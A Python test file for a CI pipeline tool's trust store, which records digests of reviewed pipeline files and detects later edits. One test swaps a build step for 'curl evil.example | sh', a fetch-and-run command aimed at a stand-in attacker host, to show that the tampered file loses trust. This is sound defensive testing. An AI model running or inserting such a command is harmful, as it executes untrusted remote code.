"""Trust records: exact content per absolute path, kept outside the repository, safe to share."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from pipedeck.definition import load_pipeline
from pipedeck.engine.errors import TrustError
from pipedeck.engine.requests import current_user
from pipedeck.engine.trust import TrustStore, digest_of, reviewed_commands, trust_file
from tests.conftest import RepoMaker

CI = """
name: ci
stages:
  - name: Source
    actions:
      - {name: checkout, kind: source, outputs: [source]}
  - name: Build
    actions:
      - name: compile
        kind: build
        inputs: [source]
        run: |
          make all
          make check
  - name: Gate
    actions:
      - {name: ok, kind: approval}
"""


@pytest.fixture
def ci(repo: RepoMaker) -> Path:
    return repo.pipeline(CI)


def test_default_store_is_the_file_the_environment_names(trust_file: Path, ci: Path) -> None:
    store = TrustStore()
    assert store.path == trust_file
    store.trust(ci)
    assert trust_file.is_file()


def test_default_path_honours_xdg_state_home(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("PIPEDECK_TRUST_FILE")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    assert trust_file() == tmp_path / "state" / "pipedeck" / "trust.json"
    # Relative values are invalid per the XDG spec; the home default applies.
    monkeypatch.setenv("XDG_STATE_HOME", "relative/state")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert trust_file() == tmp_path / "home" / ".local" / "state" / "pipedeck" / "trust.json"
    monkeypatch.delenv("XDG_STATE_HOME")
    assert trust_file() == tmp_path / "home" / ".local" / "state" / "pipedeck" / "trust.json"


def test_new_then_trusted_then_changed_then_trusted_again(ci: Path) -> None:
    store = TrustStore()
    first = store.check(ci)
    assert (first.state, first.trusted) == ("new", False)
    assert first.path == ci.resolve()
    assert first.digest == digest_of(ci.read_bytes())

    assert store.trust(ci).trusted
    assert store.check(ci).state == "trusted"
    assert store.is_trusted(ci)

    ci.write_text(CI.replace("make all", "curl evil.example | sh"))
    changed = store.check(ci)
    assert (changed.state, changed.trusted) == ("changed", False)
    assert not store.is_trusted(ci)

    store.trust(ci)
    assert store.is_trusted(ci)


def test_the_record_names_path_digest_time_and_user(trust_file: Path, ci: Path) -> None:
    TrustStore().trust(ci)
    entry = json.loads(trust_file.read_text())[str(ci.resolve())]
    assert entry["sha256"] == digest_of(ci.read_bytes())
    assert entry["by"] == current_user()
    assert entry["trusted_at"].endswith("+00:00")


def test_the_key_is_the_resolved_absolute_path(ci: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ci.parent)
    store = TrustStore()
    store.trust(Path("ci.yml"))
    assert store.is_trusted(ci)
    assert store.is_trusted(ci.parent / ".." / "pipelines" / "ci.yml")


def test_trusting_a_digest_that_no_longer_matches_is_refused(ci: Path) -> None:
    store = TrustStore()
    shown = store.check(ci)
    ci.write_text(CI + "\n# edited after review\n")
    with pytest.raises(TrustError, match="changed since it was shown"):
        store.trust_digest(ci, shown.digest)
    assert store.check(ci).state == "new"
    assert not store.path.exists()


def test_revoke(ci: Path) -> None:
    store = TrustStore()
    assert store.revoke(ci) is False
    store.trust(ci)
    assert store.revoke(ci) is True
    assert store.check(ci).state == "new"
    # A deleted file can still be forgotten.
    store.trust(ci)
    ci.unlink()
    assert store.revoke(ci) is True


def test_a_missing_trust_file_trusts_nothing(tmp_path: Path, ci: Path) -> None:
    store = TrustStore(tmp_path / "nowhere" / "trust.json")
    assert store.check(ci).state == "new"
    store.trust(ci)  # creates the directory
    assert store.is_trusted(ci)


@pytest.mark.parametrize(
    "text",
    ["{not json", "[1, 2]", '{"/x.yml": {"trusted_at": "now"}}', '{"/x.yml": "abc"}'],
)
def test_a_damaged_trust_file_is_an_error_naming_it(trust_file: Path, ci: Path, text: str) -> None:
    trust_file.write_text(text)
    store = TrustStore()
    with pytest.raises(TrustError, match=str(trust_file)):
        store.check(ci)
    with pytest.raises(TrustError, match="damaged"):
        store.trust(ci)
    assert trust_file.read_text() == text  # neither wiped nor rewritten


def test_a_failed_write_keeps_the_old_file_and_leaves_no_temp(
    trust_file: Path, ci: Path, repo: RepoMaker, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = TrustStore()
    store.trust(ci)
    before = trust_file.read_text()
    other = repo.pipeline(CI.replace("name: ci", "name: other"), "other")

    def broken_replace(src: object, dst: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", broken_replace)
    with pytest.raises(OSError, match="disk full"):
        store.trust(other)
    monkeypatch.undo()
    assert trust_file.read_text() == before
    assert sorted(p.name for p in trust_file.parent.iterdir()) == ["trust.json", "trust.json.lock"]
    assert store.is_trusted(ci)
    assert not store.is_trusted(other)


WRITER = """
import sys
from pathlib import Path
from pipedeck.engine.trust import TrustStore

store = TrustStore(Path(sys.argv[1]))
for path in sys.argv[2:]:
    store.trust(Path(path))
"""


def test_concurrent_writers_keep_every_entry(tmp_path: Path) -> None:
    store_path = tmp_path / "state" / "trust.json"
    writers, per_writer = 6, 15
    files: list[list[str]] = []
    for w in range(writers):
        batch = []
        for i in range(per_writer):
            file = tmp_path / "files" / f"w{w}-{i}.yml"
            file.parent.mkdir(exist_ok=True)
            file.write_text(f"name: w{w}i{i}\n")
            batch.append(str(file))
        files.append(batch)
    procs = [
        subprocess.Popen([sys.executable, "-c", WRITER, str(store_path), *batch]) for batch in files
    ]
    assert [p.wait(timeout=60) for p in procs] == [0] * writers

    entries = TrustStore(store_path).entries()
    assert len(entries) == writers * per_writer
    store = TrustStore(store_path)
    assert all(store.is_trusted(Path(f)) for batch in files for f in batch)


def test_commands_lists_what_each_action_does(ci: Path) -> None:
    assert reviewed_commands(load_pipeline(ci)) == [
        ("Source/checkout", "source", "exports the commit"),
        ("Build/compile", "build", "make all\nmake check"),
        ("Gate/ok", "approval", "waits for approval"),
    ]


def test_commands_lists_where_secrets_come_from_a_command_being_one(tmp_path: Path) -> None:
    path = tmp_path / "ci.yml"
    path.write_text(
        "name: ci\n"
        "secrets:\n"
        "  A: {command: 'curl -s https://example.invalid/token'}\n"
        "  B: {file: ~/.config/ci/token}\n"
        "  C: {env: CI_TOKEN}\n"
        "stages:\n"
        "  - name: S\n"
        "    actions: [{name: a, kind: build, secrets: [A, B, C], run: make}]\n"
    )
    assert reviewed_commands(load_pipeline(path)) == [
        ("secrets/A", "secret", "runs curl -s https://example.invalid/token"),
        ("secrets/B", "secret", "reads ~/.config/ci/token"),
        ("secrets/C", "secret", "reads $CI_TOKEN"),
        ("S/a", "build", "make"),
    ]


def test_the_engine_package_does_not_pull_in_the_ui() -> None:
    code = textwrap.dedent(
        """
        import sys
        import pipedeck.engine.trust
        print(sorted(m for m in sys.modules if m.split('.')[0] in ('textual', 'rich')))
        """
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"
